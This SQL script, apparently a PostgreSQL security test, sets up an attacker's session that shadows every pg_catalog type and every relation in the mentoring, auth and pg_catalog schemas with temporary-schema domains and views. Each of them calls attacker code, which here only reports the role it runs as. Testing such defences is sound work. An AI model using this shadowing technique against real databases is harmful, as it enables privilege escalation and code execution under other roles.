-- An attacker's session: a domain named after every type of pg_catalog and a view named
-- after every relation of mentoring, auth and pg_catalog, all in the session's temporary
-- schema, each running the attacker's code when used. The code reports the role it runs
-- as (a notice), once armed with `set attack.armed = on`. Run as the attacker's role.

create function pg_temp.attacker_code(v anyelement)
  returns boolean
  language plpgsql
as $$
begin
  if current_setting('attack.armed', true) = 'on' then
    raise notice 'attacker code ran as %', current_user;
  end if;
  return true;
end
$$;

do $$
declare
  found_type record;
  found_relation record;
begin
  for found_type in
    select t.typname::text as name
    from pg_catalog.pg_type t
    where t.typnamespace = 'pg_catalog'::regnamespace
      and t.typtype in ('b', 'e', 'r', 'm')
      and t.typname !~ '^_'
  loop
    begin
      execute format('create domain pg_temp.%I as pg_catalog.%I check (pg_temp.attacker_code(value))',
                     found_type.name, found_type.name);
    exception when others then
      null;  -- not every type can be a domain's base
    end;
  end loop;

  for found_relation in
    select n.nspname::text as schema, c.relname::text as name
    from pg_catalog.pg_class c
    join pg_catalog.pg_namespace n on n.oid = c.relnamespace
    where n.nspname in ('mentoring', 'auth', 'pg_catalog')
      and c.relkind in ('r', 'v', 'p', 'm', 'f')
  loop
    begin
      execute format('create view pg_temp.%I as select * from %I.%I where pg_temp.attacker_code(1)',
                     found_relation.name, found_relation.schema, found_relation.name);
    exception when others then
      null;  -- a relation this role may not reach
    end;
  end loop;
end
$$;
